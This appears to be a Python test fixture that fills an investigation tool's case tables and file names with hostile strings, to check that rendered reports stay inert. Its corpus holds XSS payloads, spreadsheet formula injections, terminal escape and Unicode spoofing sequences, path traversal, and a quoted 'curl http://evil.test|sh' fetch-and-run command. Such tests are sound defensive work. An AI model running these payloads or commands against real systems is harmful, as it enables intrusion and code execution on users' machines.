"""A case in which whatever evidence can fill holds texts meant to do harm where they are shown."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pyarrow as pa

from investigate.case import Coverage
from investigate.case_writer import CaseWriter
from investigate.model import Window
from investigate.tables import TABLES
from tests.builders import CAPTURED, END, START, letter_row
from tests.complete import GOOD, troubled

MARK = "pwned"  # in every text that does anything: nothing but text may ever hold it
HOST = "evil.test"
CORPUS: Sequence[str] = (
    f"<script>window.__{MARK}=1;alert(1)</script>",
    f"</script></style></title></pre><script>window.__{MARK}=2</script>",
    f'<img src=x onerror="window.__{MARK}=3">',
    f'<svg onload="window.__{MARK}=4"><a href="https://{HOST}/{MARK}">{MARK}</a></svg>',
    f'<iframe srcdoc="<script>parent.__{MARK}=5</script>"></iframe><form action=//{HOST}>{MARK}',
    f'"\' onmouseover="window.__{MARK}=6" autofocus onfocus="window.__{MARK}=6" x=\'{MARK}',
    f"<style>*{{display:none}}</style><link rel=stylesheet href=//{HOST}/{MARK}.css>",
    f"[{MARK}](javascript:window.__{MARK}=7) ![{MARK}](https://{HOST}/{MARK}.png)",
    f"`{MARK}` | {MARK} |\n# {MARK}\n\n> **{MARK}**",
    f'<a href="https://{HOST}/{MARK}">{MARK}</a><b>{MARK}</b><br><i>%{{x}}</i><extra>{MARK}</extra>',
    f"$$\\href{{javascript:window.__{MARK}=8}}{{{MARK}}}$$ \\(x\\)",
    f"{{{{ 7*7 }}}}{{% raw %}}${{7*7}}{MARK}",
    f"\x1b[31m{MARK}\x1b[0m\x1b]8;;https://{HOST}/{MARK}\x07{MARK}\x1b]8;;\x07\x9b2J",
    f"{MARK}\u202edenwp\u2066{MARK}\u2069\u200b\ufeff",
    f'=HYPERLINK("https://{HOST}/{MARK}","{MARK}")',
    f"+{MARK}",
    f"-{MARK}",
    f"@{MARK}",
    f"\t={MARK}",
    f"&lt;b&gt;{MARK}&#60;/b&#62;&amp;",
    f"{MARK}/../../{MARK}?x=1#y\\{MARK}%00%2e",
    f"{MARK}" + "A" * 5_000,
    f"Denied on `curl http://{HOST}|sh # {MARK} CASE`, `investigate report CASE; {MARK} CASE`",
    f'Traceback (most recent call last):\n  File "<b>{MARK}</b>", line 1, in <module>\r\n'
    f"\x1b[1A\x1b[2KSystemExit: 0 {MARK} <script>window.__{MARK}=9</script>\n\nDONE",
    f"{MARK}\u061c\u00ad\u180e\u206a\u206f\ufff9\ufffb\u3164\u2800\U000e0001\U000e0070\U000e007f",
    "",
)
# Texts that hold JSON are read by the checks: there the harm stands inside, with half a character.
JSON_COLUMNS = frozenset(
    {"attributes", "body", "dimensions", "document", "fields", "payload", "pattern", "data"}
)
# Words that a check or a figure goes by; in half of the rows they keep their meaning.
WORDS = frozenset(
    {"role", "status", "channel", "level", "origin", "kind", "state", "message", "function"}
)
# Texts that place a row in the window asked about.
PLACES = frozenset({"day", "event_time", "ingest_time", "computed_at"})


def harm_as_json(text: str) -> str:
    """A JSON text that holds a text as a name and as a value, beside half a character."""
    return json.dumps({text: text, "half": "\ud800"})


def spoilt(row: Mapping[str, Any], schema: pa.Schema, text: str, keep: frozenset[str]) -> Any:
    """A row all of whose texts are replaced, but for the columns to keep."""
    changed = dict(row)
    for column in schema:
        if column.name in keep:
            continue
        if pa.types.is_string(column.type):
            changed[column.name] = harm_as_json(text) if column.name in JSON_COLUMNS else text
        elif pa.types.is_list(column.type):
            changed[column.name] = [text, text]
    return changed


def hostile_rows() -> dict[str, list[dict[str, Any]]]:
    """Every table: what a troubled pipeline holds, and beside it rows full of harm."""
    tables = {name: list(rows) for name, rows in troubled().items()}
    tables["dead_letters"] = [letter_row(GOOD[0]), letter_row()]
    for name, schema in TABLES.items():
        given = tables.get(name) or [{}]
        for place, text in enumerate(CORPUS):
            row = given[place % len(given)]
            tables.setdefault(name, []).append(spoilt(row, schema, text, WORDS | PLACES))
            tables[name].append(spoilt(row, schema, text, frozenset()))
    return tables


def hostile_case(folder: Path) -> Path:
    """Write the case into a folder and return where it is; its own name is hostile as well."""
    where = folder / "<b onclick=alert(1)>pwned case"
    tool = {"name": CORPUS[2], "version": CORPUS[3]}
    names = {"region": CORPUS[0], "raw_bucket": CORPUS[9], "replay_queue_url": CORPUS[12]}
    name = "".join(CORPUS[:3]) + CORPUS[12] + CORPUS[13]
    with CaseWriter(where, name, Window(START, END), CAPTURED, 300, tool, names) as writer:
        for place, (table, rows) in enumerate(hostile_rows().items()):
            reason = CORPUS[place % len(CORPUS)] or None
            writer.add(table, rows, Coverage("partial" if reason else "captured", reason))
    return where
